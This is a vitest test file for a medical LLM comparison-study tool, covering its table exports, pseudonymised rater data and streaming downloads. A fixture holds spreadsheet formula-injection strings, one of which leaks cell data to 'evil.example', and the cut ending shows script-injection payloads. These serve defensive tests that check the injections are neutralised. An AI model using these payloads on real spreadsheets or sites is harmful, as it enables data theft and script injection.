/**
 * Study exports against a small study rated to a fixed plan (test/helpers/rated-study.ts), with
 * the expected tables worked out by hand from that plan; Markdown / LaTeX snapshots; CSV formula
 * injection; pseudonyms vs names; streaming.
 */
import { parse } from 'csv-parse/sync';
import { and, eq } from 'drizzle-orm';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { GET } from '../../src/routes/(researcher)/studies/[id]/export/+server.ts';
import { toChoice } from '../../src/lib/domain/blinding/choice.ts';
import {
	closeDatabase,
	openDb,
	sqliteClient,
	type AppDb,
	first
} from '../../src/lib/server/db/index.ts';
import { assignments, auditLog, models, pairs, prompts } from '../../src/lib/server/db/schema.ts';
import {
	exportStudy,
	type ExportFormat,
	type ExportOptions,
	type ExportTable
} from '../../src/lib/server/services/exports.ts';
import { importPredictions, studyMetrics } from '../../src/lib/server/services/predictions.ts';
import * as ratings from '../../src/lib/server/services/ratings.ts';
import { studyResults } from '../../src/lib/server/services/results.ts';
import { MIGRATIONS } from '../helpers/db.ts';
import { DIMENSIONS, ratedStudy, type CommentFor } from '../helpers/rated-study.ts';
import { seeded, type Seeded } from '../helpers/seeded.ts';

const NOW = new Date('2026-03-04T05:06:07.000Z');
const BASE = 'medpair:0.1.0|study:1|seed:7';
const BOOT = 'bootstrap:B=1000,seed=7,cluster=prompt';

/** Hostile comments (issue 8): each would run as a formula in a spreadsheet. */
const HOSTILE: Record<string, string> = {
	'junior1:q1': '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
	'junior1:q2': '@SUM(A1:A9)',
	'junior1:q3': '\tTAB start',
	'junior2:q1': '+1',
	'junior2:q2': '-2+3',
	'junior2:q3': 'see #3, "quoted"\nsecond line',
	'senior:q2': '\rCR start'
};
const comment: CommentFor = (rater, prompt, model) =>
	model === 'cand-a' ? (HOSTILE[`${rater}:${prompt}`] ?? '') : '';

async function collect(chunks: AsyncIterable<string>): Promise<string> {
	let text = '';
	for await (const chunk of chunks) text += chunk;
	return text;
}

async function run(
	s: Seeded,
	table: ExportTable,
	format: ExportFormat,
	options: ExportOptions = {}
): Promise<string> {
	const result = await exportStudy(s.db, s.studyId, table, format, { now: NOW, ...options });
	if (!result.ok) throw new Error(result.message);
	return collect(result.value.chunks);
}

// The endpoint reads the app's database through getDb(); here it is the test's database.
let current: AppDb;
vi.mock('$lib/server/db/index.ts', async (original) => ({
	...(await original<object>()),
	getDb: () => current
}));

const csv = (text: string) =>
	parse(text, { comment: '#', columns: true }) as Record<string, string>[];

let s: Seeded;
beforeAll(async () => {
	s = await ratedStudy(comment);
	current = s.db;
});

describe('wintie', () => {
	/*
	 * Final labels from the plan (juniors' common outcome, or the senior's final decision on
	 * cand-a/q2 — flagged hard — and cand-b/q2 — faithfulness disagreement):
	 *                 faithfulness   comprehensiveness  generalizability  robustness
	 *   cand-a q1..3  win win tie    win tie loss       tie loss win      loss win win
	 *   cand-b q1..3  loss loss tie  loss loss tie      loss tie tie      loss tie tie
	 * so (W, T, L) and, with N = 3, the rates W/N, (W+T)/N, (W+T/2)/N and the exact sign test
	 * p = min(1, 2·P(X ≤ min(W, L))), X ~ Bin(W + L, ½):
	 *   cand-a faith (2,1,0): 2/3, 1,   5/6, p = 2·¼ = 0.5
	 *   cand-a comp  (1,1,1): 1/3, 2/3, 1/2, p = min(1, 2·¾) = 1
	 *   cand-a gen   (1,1,1): same
	 *   cand-a rob   (2,0,1): 2/3, 2/3, 2/3, p = min(1, 2·½) = 1
	 *   cand-b faith (0,1,2): 0,   1/3, 1/6, p = 0.5
	 *   cand-b comp  (0,1,2): same
	 *   cand-b gen   (0,2,1): 0,   2/3, 1/3, p = 1
	 *   cand-b rob   (0,2,1): same
	 */
	const expected = [
		['cand-a', 'faithfulness', 2, 1, 0, 2 / 3, 1, 5 / 6, 0.5],
		['cand-a', 'comprehensiveness', 1, 1, 1, 1 / 3, 2 / 3, 1 / 2, 1],
		['cand-a', 'generalizability', 1, 1, 1, 1 / 3, 2 / 3, 1 / 2, 1],
		['cand-a', 'robustness', 2, 0, 1, 2 / 3, 2 / 3, 2 / 3, 1],
		['cand-b', 'faithfulness', 0, 1, 2, 0, 1 / 3, 1 / 6, 0.5],
		['cand-b', 'comprehensiveness', 0, 1, 2, 0, 1 / 3, 1 / 6, 0.5],
		['cand-b', 'generalizability', 0, 2, 1, 0, 2 / 3, 1 / 3, 1],
		['cand-b', 'robustness', 0, 2, 1, 0, 2 / 3, 1 / 3, 1]
	] as const;
	/** Wilson (1927) score interval for k of n at z = 1.959964 (95 %). */
	const wilson = (k: number, n: number) => {
		const z = 1.959963984540054;
		const p = k / n;
		const centre = (p + (z * z) / (2 * n)) / (1 + (z * z) / n);
		const half = (z * Math.sqrt((p * (1 - p)) / n + (z * z) / (4 * n * n))) / (1 + (z * z) / n);
		return [centre - half, centre + half];
	};

	it('JSON long form: one object per (model, opponent, dimension) with exactly the contract fields', async () => {
		const json = JSON.parse(await run(s, 'wintie', 'json'));
		// Issue #17 item 14: the keys' display names (the rated study's models have none).
		expect(Object.keys(json)).toEqual(['signature', 'interim', 'cells', 'display_names']);
		expect(json.display_names.dimensions).toEqual({
			faithfulness: 'Faithfulness',
			comprehensiveness: 'Comprehensiveness',
			generalizability: 'Generalizability',
			robustness: 'Robustness'
		});
		// Issue #15 §3: every pair of the rated study is decided, so nothing is left out.
		expect(json.interim).toEqual({ pending_pairs: 0, unresolved_labels: 0, cells: [] });
		expect(json.signature).toBe(
			`${BASE}|table:wintie|categories:loss,tie,win|${BOOT}|protocol:escalate=any-disagreement,adjudicate=disputed|interim:pending=0,unresolved=0|exported:2026-03-04T05:06:07.000Z|tables|wilson95|sign-test:exact-two-sided|p-adjust:holm+bh,family=all-cells-with-win-or-loss|bt:mle,ties=half|${BOOT},ci=percentile95|medpair:0.1.0`
		);
		expect(json.cells).toHaveLength(expected.length);
		expected.forEach(([model, dimension, w, t, l, win, winOrTie, half, p], i) => {
			const cell = json.cells[i];
			expect(Object.keys(cell)).toEqual([
				'model',
				'opponent',
				'dimension',
				'n',
				'wins',
				'ties',
				'losses',
				'win_rate',
				'win_or_tie_rate',
				'win_rate_ties_half',
				'wilson95_win_or_tie_rate',
				'sign_test_p_two_sided',
				// Contract change (issue #15 part 3): adjusted p-values over the table's cells.
				'p_holm',
				'p_bh',
				// Issue #15 §3: what the cell leaves out while pairs wait for a senior.
				'pending_excluded',
				'unresolved_excluded'
			]);
			expect(cell).toMatchObject({ model, opponent: 'ref', dimension, n: 3 });
			expect([cell.pending_excluded, cell.unresolved_excluded]).toEqual([0, 0]);
			expect([cell.wins, cell.ties, cell.losses]).toEqual([w, t, l]);
			expect(cell.win_rate).toBeCloseTo(win, 12);
			expect(cell.win_or_tie_rate).toBeCloseTo(winOrTie, 12);
			expect(cell.win_rate_ties_half).toBeCloseTo(half, 12);
			const [lo, hi] = wilson(w + t, 3);
			expect(cell.wilson95_win_or_tie_rate[0]).toBeCloseTo(lo, 9);
			expect(cell.wilson95_win_or_tie_rate[1]).toBeCloseTo(hi, 9);
			expect(cell.sign_test_p_two_sided).toBeCloseTo(p, 12);
		});
	});

	it('CSV long form: signature line, then the same cells with the interval in two columns', async () => {
		const text = await run(s, 'wintie', 'csv');
		expect(text.split('\n')[0]).toMatch(
			/^# medpair medpair:0\.1\.0\|study:1\|seed:7\|table:wintie\|/
		);
		expect(text.split('\n')[1]).toBe(
			'model,opponent,dimension,n,wins,ties,losses,win_rate,win_or_tie_rate,win_rate_ties_half,wilson95_win_or_tie_rate_lo,wilson95_win_or_tie_rate_hi,sign_test_p_two_sided,p_holm,p_bh,pending_excluded,unresolved_excluded,model_name,opponent_name,dimension_name'
		);
		const rows = csv(text);
		expect(rows.map((r) => [r.model, r.dimension, +r.wins, +r.ties, +r.losses])).toEqual(
			expected.map(([model, dimension, w, t, l]) => [model, dimension, w, t, l])
		);
		expect(+rows[0].wilson95_win_or_tie_rate_lo).toBeCloseTo(wilson(3, 3)[0], 9);
		expect(+rows[0].wilson95_win_or_tie_rate_hi).toBe(1);
		expect(+rows[3].win_rate_ties_half).toBeCloseTo(2 / 3, 12);
	});

	it("Markdown: the paper's Table 6 layout, general before medical, best per column in bold", async () => {
		expect(await run(s, 'wintie', 'md')).toMatchInlineSnapshot(`
			"Win+tie rate (%) of each candidate model against each reference model, per dimension. Best per column in bold.

			| Model | # Params | Faithfulness: ref | Comprehensiveness: ref | Generalizability: ref | Robustness: ref |
			| --- | ---: | ---: | ---: | ---: | ---: |
			| *General* |  |  |  |  |  |
			| cand-b | — | 33.3 | 33.3 | **66.7** | **66.7** |
			| *Medical* |  |  |  |  |  |
			| cand-a | 7B | **100.0** | **66.7** | **66.7** | **66.7** |

			Signature: \`medpair:0.1.0|study:1|seed:7|table:wintie|categories:loss,tie,win|bootstrap:B=1000,seed=7,cluster=prompt|protocol:escalate=any-disagreement,adjudicate=disputed|interim:pending=0,unresolved=0|exported:2026-03-04T05:06:07.000Z|tables|wilson95|sign-test:exact-two-sided|p-adjust:holm+bh,family=all-cells-with-win-or-loss|bt:mle,ties=half|bootstrap:B=1000,seed=7,cluster=prompt,ci=percentile95|medpair:0.1.0\`
			"
		`);
	});

	it('LaTeX: booktabs, dimension column groups, \\textbf for the best', async () => {
		expect(await run(s, 'wintie', 'latex')).toMatchInlineSnapshot(`
			"\\begin{table}[ht]
			\\centering
			\\caption{Win+tie rate (\\%) of each candidate model against each reference model, per dimension. Best per column in bold.}
			\\begin{tabular}{lrrrrr}
			\\toprule
			 &  & \\multicolumn{1}{c}{Faithfulness} & \\multicolumn{1}{c}{Comprehensiveness} & \\multicolumn{1}{c}{Generalizability} & \\multicolumn{1}{c}{Robustness} \\\\
			\\cmidrule(lr){3-3} \\cmidrule(lr){4-4} \\cmidrule(lr){5-5} \\cmidrule(lr){6-6}
			Model & \\# Params & ref & ref & ref & ref \\\\
			\\midrule
			\\multicolumn{6}{l}{\\textit{General}} \\\\
			cand-b & — & 33.3 & 33.3 & \\textbf{66.7} & \\textbf{66.7} \\\\
			\\multicolumn{6}{l}{\\textit{Medical}} \\\\
			cand-a & 7B & \\textbf{100.0} & \\textbf{66.7} & \\textbf{66.7} & \\textbf{66.7} \\\\
			\\bottomrule
			\\end{tabular}
			% signature: medpair:0.1.0|study:1|seed:7|table:wintie|categories:loss,tie,win|bootstrap:B=1000,seed=7,cluster=prompt|protocol:escalate=any-disagreement,adjudicate=disputed|interim:pending=0,unresolved=0|exported:2026-03-04T05:06:07.000Z|tables|wilson95|sign-test:exact-two-sided|p-adjust:holm+bh,family=all-cells-with-win-or-loss|bt:mle,ties=half|bootstrap:B=1000,seed=7,cluster=prompt,ci=percentile95|medpair:0.1.0
			\\end{table}
			"
		`);
	});

	it('layout=long gives the long table in Markdown; JSON refuses the paper layout', async () => {
		const long = await run(s, 'wintie', 'md', { layout: 'long' });
		// Markdown shows the dimension's label (issue #17 item 14); cand-a has no display name.
		expect(long).toContain('| Faithfulness | cand-a | ref | 3 | 2 | 1 | 0 | 66.7 |');
		const paperCsv = await run(s, 'wintie', 'csv', { layout: 'paper' });
		// The paper's separate "# Params" column (issue #15 §3); cand-b has no size.
		expect(paperCsv.split('\n')[2]).toBe('cand-b,—,33.3,33.3,66.7,66.7');
		expect(await exportStudy(s.db, s.studyId, 'wintie', 'json', { layout: 'paper' })).toMatchObject(
			{
				ok: false,
				status: 400
			}
		);
	});
});

describe('judgments', () => {
	it('one row per rater × pair × dimension × stage, with placement, choice and final label', async () => {
		const rows = csv(await run(s, 'judgments', 'csv'));
		// 6 pairs × 2 juniors × 4 dimensions + 2 escalated pairs × 2 senior stages × 4 dimensions.
		expect(rows).toHaveLength(48 + 16);
		expect(Object.keys(rows[0])).toEqual([
			'study',
			'prompt',
			'model',
			'opponent',
			'dimension',
			'rater',
			'role',
			'repeat',
			'stage',
			'shown_as_a',
			'choice',
			'outcome',
			'hard',
			'comment',
			'created_at',
			'updated_at',
			'seconds_spent',
			'final_outcome',
			'final_source',
			// Issue #17 item 14: the display names of the key columns, appended.
			'model_name',
			'opponent_name',
			'dimension_name'
		]);
		expect(rows[0].dimension_name).toBe(
			{ faithfulness: 'Faithfulness', comprehensiveness: 'Comprehensiveness' }[rows[0].dimension]
		);
		const senior = rows.filter(
			(r) => r.model === 'cand-a' && r.prompt === 'q2' && r.role === 'senior'
		);
		expect(senior.map((r) => `${r.stage}:${r.outcome}`)).toEqual([
			'independent:tie',
			'final:win',
			'independent:tie',
			'final:tie',
			'independent:tie',
			'final:loss',
			'independent:tie',
			'final:win'
		]);
		for (const r of senior) {
			expect(r.rater).toBe('S1');
			expect(r.final_source).toBe('senior');
			expect(r.seconds_spent).toBe('120');
		}
		const juniorHard = rows.find(
			(r) => r.model === 'cand-a' && r.prompt === 'q2' && r.rater === 'J2'
		)!;
		expect(juniorHard.hard).toBe('true');
		expect(juniorHard.final_outcome).toBe('win');

		// What the rater saw: the model shown as A is the one their assignment put on the left,
		// and the displayed choice is the stored outcome seen from that placement.
		const pseudonym = { [s.ids.junior1]: 'J1', [s.ids.junior2]: 'J2', [s.ids.senior]: 'S1' };
		const left = new Map(
			(
				await s.db
					.select({
						userId: assignments.userId,
						modelOnLeft: assignments.modelOnLeft,
						model: models.key,
						prompt: prompts.key
					})
					.from(assignments)
					.innerJoin(pairs, eq(pairs.id, assignments.pairId))
					.innerJoin(models, eq(models.id, pairs.modelId))
					.innerJoin(prompts, eq(prompts.id, pairs.promptId))
			).map((a) => [`${pseudonym[a.userId]}:${a.model}:${a.prompt}`, a.modelOnLeft])
		);
		for (const r of rows) {
			const modelOnLeft = left.get(`${r.rater}:${r.model}:${r.prompt}`)!;
			expect(r.shown_as_a).toBe(modelOnLeft ? r.model : r.opponent);
			const choice = toChoice(r.outcome as 'win' | 'tie' | 'loss', modelOnLeft);
			expect(r.choice).toBe({ A: 'A better', tie: 'Tie', B: 'B better' }[choice]);
			expect(r.created_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
			expect(r.repeat).toBe('false');
		}
		expect(new Set(rows.map((r) => r.shown_as_a))).toEqual(new Set(['cand-a', 'cand-b', 'ref']));
		// Consensus pairs carry the juniors' common outcome as their final label; so do, under the
		// default scope "disputed", the three dimensions the juniors agreed on in the escalated
		// cand-b/q2 pair (2 juniors + the senior's two stages = 4 rows each).
		const consensus = rows.filter((r) => r.final_source === 'consensus');
		for (const r of consensus) expect(r.final_outcome).toBe(r.outcome);
		expect(consensus).toHaveLength(4 * 2 * 4 + 3 * 4);
	});

	it('neutralises formula-like comments in CSV, keeps negative numbers and the raw text in JSON', async () => {
		const text = await run(s, 'judgments', 'csv');
		const comments = new Set(csv(text).map((r) => r.comment));
		expect(comments).toEqual(
			new Set([
				'',
				`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
				"'@SUM(A1:A9)",
				"'\tTAB start",
				"'+1",
				"'-2+3",
				'see #3, "quoted"\nsecond line',
				"'\rCR start"
			])
		);
		// No line of the file starts a cell with a formula character.
		for (const line of text.split('\n')) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
		const json = JSON.parse(await run(s, 'judgments', 'json'));
		expect(new Set(json.judgments.map((j: { comment: string }) => j.comment))).toEqual(
			new Set(['', ...Object.values(HOSTILE)])
		);
		// Negative numbers are numbers, not formulas: the agreement CSV keeps them bare.
		const agreement = await run(s, 'agreement', 'csv');
		expect(agreement).toMatch(/,-0\.3333,/);
		expect(agreement).not.toContain("'-");
	});

	it('uses pseudonyms by default and usernames only with names', async () => {
		const pseudonymous = await run(s, 'judgments', 'csv');
		expect(new Set(csv(pseudonymous).map((r) => r.rater))).toEqual(new Set(['J1', 'J2', 'S1']));
		for (const username of ['junior1', 'junior2']) expect(pseudonymous).not.toContain(username);
		const named = await run(s, 'judgments', 'json', { names: true });
		expect(new Set(JSON.parse(named).judgments.map((j: { rater: string }) => j.rater))).toEqual(
			new Set(['junior1', 'junior2', 'senior'])
		);
	});

	it('Markdown and LaTeX put every row in one table and the signature at the end', async () => {
		const md = await run(s, 'judgments', 'md');
		expect(md.split('\n').filter((l) => l.startsWith('| 1 |'))).toHaveLength(64);
		expect(md).toContain('see #3, "quoted" second line');
		expect(md.trimEnd().split('\n').at(-1)).toMatch(/^Signature: `medpair:0\.1\.0\|study:1\|/);
		const latex = await run(s, 'judgments', 'latex');
		expect(latex).toMatch(/^\\begin\{longtable\}\{rlllllllllllllllrlllll\}/);
		expect(latex).toContain('\\endhead');
		expect(latex.split('\n').filter((l) => l.startsWith('1 & q'))).toHaveLength(64);
		expect(latex).toContain('see \\#3, "quoted" second line');
	});
});

describe('agreement and metrics', () => {
	it('agreement JSON is the stats engine report; CSV is dimension × coefficient', async () => {
		const json = JSON.parse(await run(s, 'agreement', 'json'));
		const { agreement } = await studyResults(s.db, s.studyId);
		expect(json.results).toEqual(JSON.parse(JSON.stringify(agreement!.results)));
		expect(json.signature).toContain(`|exported:2026-03-04T05:06:07.000Z|${agreement!.signature}`);
		const rows = csv(await run(s, 'agreement', 'csv'));
		expect(rows).toHaveLength(4 * 14);
		const percent = (dimension: string) =>
			rows.find((r) => r.dimension === dimension && r.coefficient === 'Percent agreement')!;
		// The juniors differ only on cand-b/q2 faithfulness: 5 of 6 pairs agree there, all elsewhere.
		expect(+percent('faithfulness').value).toBe(0.8333);
		for (const d of DIMENSIONS.slice(1)) expect(+percent(d).value).toBe(1);
		const md = await run(s, 'agreement', 'md');
		expect(md).toContain('Agreement: Faithfulness (6 items, 2 raters, 12 ratings');
		expect(md).toContain('Rater pairs: Robustness');
		expect(md.match(/Signature: /g)).toHaveLength(1);
	});

	it('metrics: a clear error without predictions, the report and its table with them', async () => {
		const fresh = await seeded();
		expect(await exportStudy(fresh.db, fresh.studyId, 'metrics', 'csv')).toEqual({
			ok: false,
			status: 404,
			message:
				'Study 1 has no predictions yet: upload a predictions file (.jsonl) on the study page, or run medpair predictions import 1 <file>, first.'
		});
		const lines = [
			{ dataset: 'MedQA', task: 'qa', model: 'cand-a', id: 1, prediction: 'A', reference: 'a' },
			{ dataset: 'MedQA', task: 'qa', model: 'cand-a', id: 2, prediction: 'B', reference: 'c' },
			{ dataset: 'MedQA', task: 'qa', model: 'ref', id: 1, prediction: 'a', reference: 'a' },
			{ dataset: 'MedQA', task: 'qa', model: 'ref', id: 2, prediction: 'c', reference: 'c' }
		];
		const imported = await importPredictions(
			fresh.db,
			fresh.studyId,
			'p.jsonl',
			lines.map((l) => JSON.stringify(l)).join('\n'),
			fresh.ids.res
		);
		expect(imported.ok).toBe(true);
		const json = JSON.parse(await run(fresh, 'metrics', 'json'));
		const { report } = (await studyMetrics(fresh.db, fresh.studyId))!;
		const { display_names: names, ...rest } = json;
		expect({ ...rest, signature: report.signature }).toEqual(JSON.parse(JSON.stringify(report)));
		expect(names.models).toEqual({ 'cand-a': 'cand-a', 'cand-b': 'cand-b', ref: 'ref' });
		expect(json.signature).toMatch(/\|table:metrics\|.*\|rougeL:stem=1/);
		const rows = csv(await run(fresh, 'metrics', 'csv'));
		// Accuracy: cand-a 1 of 2 = 50, ref 2 of 2 = 100.
		expect(rows.map((r) => [r.model, r.MedQA])).toEqual([
			['cand-a', '50'],
			['ref', '100']
		]);
		expect(await run(fresh, 'metrics', 'md')).toContain('| ref | **100** |');
		// layout=paper: the paper's Table 5 (Types, Methods, # Params; QA under Language
		// Reasoning); the study's reference model is a reference row without a kind, on top.
		const paper = await run(fresh, 'metrics', 'md', { layout: 'paper' });
		expect(paper).toContain('| Types | Methods | # Params | Language Reasoning: MedQA |');
		expect(paper).toContain('|  | ref | - | **100.0** |\n| Medical LLMs | cand-a | 7B | 50.0 |');
		expect(paper).toContain('Reference rows: ref.');
		const latex = await run(fresh, 'metrics', 'latex', { layout: 'paper' });
		expect(latex).toContain('\\multicolumn{1}{c}{Language Reasoning}');
		expect(
			await exportStudy(fresh.db, fresh.studyId, 'metrics', 'json', { layout: 'paper' })
		).toMatchObject({ ok: false, status: 400 });
	});

	it('settings: Figure 1 scenario averages per model and few-shot setting, stored with the predictions', async () => {
		const fresh = await seeded();
		const q = (setting: string, id: number, prediction: string, dataset = 'MedQA') => ({
			dataset,
			task: 'qa',
			model: 'cand-a',
			id,
			prediction,
			reference: 'A',
			setting
		});
		const ner = (setting: string, prediction: string[]) => ({
			dataset: 'BC5',
			task: 'ner',
			model: 'cand-a',
			id: 1,
			prediction,
			reference: ['x', 'y'],
			setting
		});
		// The same ids in two settings: one stored row each (the unique index includes the setting).
		const lines = [
			q('0-shot', 1, 'A'),
			q('0-shot', 2, 'B'),
			q('0-shot', 1, 'A', 'PubMedQA'),
			ner('0-shot', ['x']),
			q('3-shot', 1, 'A'),
			q('3-shot', 2, 'A'),
			q('3-shot', 1, 'B', 'PubMedQA'),
			ner('3-shot', ['x', 'y'])
		];
		const imported = await importPredictions(
			fresh.db,
			fresh.studyId,
			'p.jsonl',
			lines.map((l) => JSON.stringify(l)).join('\n'),
			fresh.ids.res
		);
		expect(imported).toMatchObject({ ok: true, lines: 8 });
		// 0-shot: MedQA 1/2 = 50, PubMedQA 1/1 = 100 → reasoning 75; BC5 micro-F1 with tp 1, fp 0,
		// fn 1: P 1, R 0.5, F1 2/3 → understanding 66.67. 3-shot: MedQA 100, PubMedQA 0 → 50;
		// BC5 F1 1 → 100.
		const json = JSON.parse(await run(fresh, 'settings', 'json'));
		expect(json.signature).toMatch(/\|table:settings\|/);
		expect(json.scenario_averages).toEqual([
			{ model: 'cand-a', setting: '0-shot', scenario: 'reasoning', mean: 75, datasets: 2 },
			{
				model: 'cand-a',
				setting: '0-shot',
				scenario: 'understanding',
				mean: expect.closeTo(200 / 3, 12),
				datasets: 1
			},
			{ model: 'cand-a', setting: '3-shot', scenario: 'reasoning', mean: 50, datasets: 2 },
			{ model: 'cand-a', setting: '3-shot', scenario: 'understanding', mean: 100, datasets: 1 }
		]);
		const rows = csv(await run(fresh, 'settings', 'csv'));
		expect(rows.map((r) => [r.model, r.setting, r.reasoning, r.understanding])).toEqual([
			['cand-a', '0-shot', '75', '66.66666666666666'],
			['cand-a', '3-shot', '50', '100']
		]);
		expect(rows[0].generation).toBe('');
		const md = await run(fresh, 'settings', 'md');
		expect(md).toContain('| cand-a | 0-shot | 75 | 2 |  |  | 66.7 | 1 |');
		// The metrics report splits the usefulness figures by setting too.
		const metrics = JSON.parse(await run(fresh, 'metrics', 'json'));
		expect(
			metrics.models.map((m: { setting: string; generalizability: number }) => [
				m.setting,
				m.generalizability
			])
		).toEqual([
			['0-shot', expect.closeTo((50 + 100 + 200 / 3) / 3, 12)],
			['3-shot', (100 + 0 + 100) / 3]
		]);
	});
});

describe('exportStudy', () => {
	it('refuses an unknown study; names the file, the content type; audits the export', async () => {
		expect(await exportStudy(s.db, 99, 'wintie', 'csv')).toEqual({
			ok: false,
			status: 404,
			message: 'There is no study with id 99.'
		});
		const files = [];
		for (const format of ['csv', 'json', 'md', 'latex'] as const) {
			const result = await exportStudy(s.db, s.studyId, 'judgments', format, {
				now: NOW,
				actorId: s.ids.res
			});
			if (!result.ok) throw new Error(result.message);
			files.push([result.value.fileName, result.value.contentType]);
		}
		expect(files).toEqual([
			['medpair-study-1-judgments-2026-03-04.csv', 'text/csv; charset=utf-8; header=present'],
			['medpair-study-1-judgments-2026-03-04.json', 'application/json; charset=utf-8'],
			['medpair-study-1-judgments-2026-03-04.md', 'text/markdown; charset=utf-8'],
			['medpair-study-1-judgments-2026-03-04.tex', 'application/x-tex; charset=utf-8']
		]);
		const audited = await s.db
			.select()
			.from(auditLog)
			.where(and(eq(auditLog.action, 'study.export'), eq(auditLog.userId, s.ids.res)));
		expect(audited).toHaveLength(4);
		expect(JSON.parse(audited[0].detail)).toEqual({
			table: 'judgments',
			format: 'csv',
			names: false,
			layout: null
		});
	});
});

describe('streaming', () => {
	const PROMPTS = 150;
	let dir: string;
	let db: AppDb;
	let big: Seeded;

	beforeAll(async () => {
		const models = ['cand-a', 'cand-b', 'ref'];
		const prompts = Array.from({ length: PROMPTS }, (_, i) => ({ key: `p${i}`, text: `Q${i}?` }));
		const memory = await seeded({
			prompts,
			responses: prompts.flatMap((p) =>
				models.map((m, i) => ({ prompt: p.key, model: m, text: `Answer ${i} to ${p.key}` }))
			)
		});
		// Only junior1 rates for now: junior2's ratings arrive during the export below.
		const outcomes = ['win', 'tie', 'loss'] as const;
		for (const a of await memory.db
			.select()
			.from(assignments)
			.where(eq(assignments.userId, memory.ids.junior1))) {
			const choices = Object.fromEntries(
				DIMENSIONS.map((d, i) => [d, toChoice(outcomes[(a.id + i) % 3], a.modelOnLeft)])
			);
			await ratings.submit(memory.db, memory.ids.junior1, a.publicId, {
				choices,
				hard: false,
				comment: `comment ${a.id}, long enough to make the rows a little wider than they would be`
			});
		}
		// A database file, as in production: the export then reads on its own connection.
		// (PostgreSQL: the export reads on a connection of its own anyway.)
		dir = mkdtempSync(join(tmpdir(), 'medpair-export-'));
		const sqlite = sqliteClient(memory.db);
		if (sqlite) {
			writeFileSync(join(dir, 'study.db'), sqlite.serialize());
			db = openDb(join(dir, 'study.db'), { migrationsPath: MIGRATIONS });
		} else db = memory.db;
		big = { ...memory, db };
	}, 60_000); // 300 submissions one by one: over 10 s on PostgreSQL on a loaded 2-core machine
	afterAll(async () => {
		await closeDatabase(db);
		rmSync(dir, { recursive: true, force: true });
	});

	it('yields bounded chunks on demand; writes go through while a download is paused', async () => {
		const rowsNow = PROMPTS * 2 * 4; // 300 pairs rated by junior1, 4 dimensions each
		const result = await exportStudy(db, big.studyId, 'judgments', 'csv', { now: NOW });
		if (!result.ok) throw new Error(result.message);
		const iterator = result.value.chunks[Symbol.asyncIterator]();
		const chunk = await iterator.next();
		expect(chunk.done).toBe(false);
		expect(chunk.value.length).toBeGreaterThanOrEqual(64 * 1024);
		expect(chunk.value.length).toBeLessThan(64 * 1024 + 1024);

		// Paused mid-export: junior2 rates a pair. The app's connection is free to write, and the
		// export keeps reading its own consistent snapshot.
		const pending = first(
			await db.select().from(assignments).where(eq(assignments.userId, big.ids.junior2)).limit(1)
		)!;
		const submitted = await ratings.submit(db, big.ids.junior2, pending.publicId, {
			choices: Object.fromEntries(DIMENSIONS.map((d) => [d, 'tie'])) as Record<string, 'tie'>,
			hard: false,
			comment: ''
		});
		expect(submitted.ok).toBe(true);

		let text = chunk.value;
		let chunks = 1;
		for (let next = await iterator.next(); !next.done; next = await iterator.next()) {
			expect(next.value.length).toBeLessThan(64 * 1024 + 1024);
			text += next.value;
			chunks++;
		}
		expect(chunks).toBeGreaterThan(3);
		expect(csv(text)).toHaveLength(rowsNow);
		expect(csv(await run({ ...big, db }, 'judgments', 'csv'))).toHaveLength(rowsNow + 4);
	});

	it('stops reading when the consumer stops (return closes the iterator)', async () => {
		const result = await exportStudy(db, big.studyId, 'judgments', 'json', { now: NOW });
		if (!result.ok) throw new Error(result.message);
		const iterator = result.value.chunks[Symbol.asyncIterator]();
		await iterator.next();
		expect(await iterator.return!()).toEqual({ done: true, value: undefined });
		expect((await iterator.next()).done).toBe(true);
	});
});

describe('GET /studies/[id]/export', () => {
	type Event = Parameters<typeof GET>[0];
	const get = async (id: string, query: string) =>
		await GET({
			params: { id },
			url: new URL(`http://localhost/studies/${id}/export${query}`),
			locals: { user: { id: s.ids.res } }
		} as unknown as Event);
	const refusal = async (id: string, query: string) => {
		try {
			await get(id, query);
		} catch (error) {
			const { status, body } = error as { status: number; body: { message: string } };
			return { status, message: body.message };
		}
		throw new Error('expected a refusal');
	};

	it('streams the file as an attachment with its content type', async () => {
		const response = await get('1', '?table=judgments&format=csv&names=1');
		expect(response.status).toBe(200);
		expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
		expect(response.headers.get('content-disposition')).toMatch(
			/^attachment; filename="medpair-study-1-judgments-\d{4}-\d\d-\d\d\.csv"$/
		);
		expect(response.body).toBeInstanceOf(ReadableStream);
		const rows = csv(await response.text());
		expect(rows).toHaveLength(64);
		expect(new Set(rows.map((r) => r.rater))).toEqual(new Set(['junior1', 'junior2', 'senior']));
		const paper = await (await get('1', '?table=wintie&format=latex&layout=paper')).text();
		expect(paper).toContain('\\textbf{100.0}');
	});

	it('refuses a bad query with 400 and says why; unknown studies and data with 404', async () => {
		expect(await refusal('1', '?format=csv')).toEqual({
			status: 400,
			message:
				'table must be one of wintie, judgments, agreement, metrics, settings, bias, judge, tags, leaks, calibration'
		});
		expect(await refusal('1', '?table=wintie&format=xlsx')).toEqual({
			status: 400,
			message: 'format must be one of csv, json, md, latex'
		});
		expect(await refusal('1', '?table=wintie&layout=wide&names=yes')).toEqual({
			status: 400,
			message: 'names must be 0 or 1; layout must be one of paper, long'
		});
		expect(await refusal('1', '?table=wintie&format=json&layout=paper')).toMatchObject({
			status: 400
		});
		expect(await refusal('42', '?table=wintie')).toEqual({
			status: 404,
			message: 'There is no study with id 42.'
		});
		expect(await refusal('x', '?table=wintie')).toMatchObject({ status: 404 });
		expect(await refusal('1', '?table=metrics')).toMatchObject({ status: 404 });
		// A study without issue tags, harm or per-dimension notes has no tags table.
		expect(await refusal('1', '?table=tags')).toMatchObject({ status: 404 });
	});

	it('stops reading when the client cancels the download', async () => {
		const response = await get('1', '?table=judgments&format=json');
		const reader = response.body!.getReader();
		const first = await reader.read();
		expect(first.done).toBe(false);
		await reader.cancel();
		expect((await reader.read()).done).toBe(true);
	});
});

describe('comments in the judgments export (issue #11 items 9 and 24)', () => {
	const SCRIPT = '<script>alert(1)</script>';
	const IMG = '<img src=x onerror="alert(2)"> & [click](javascript:alert(3))';
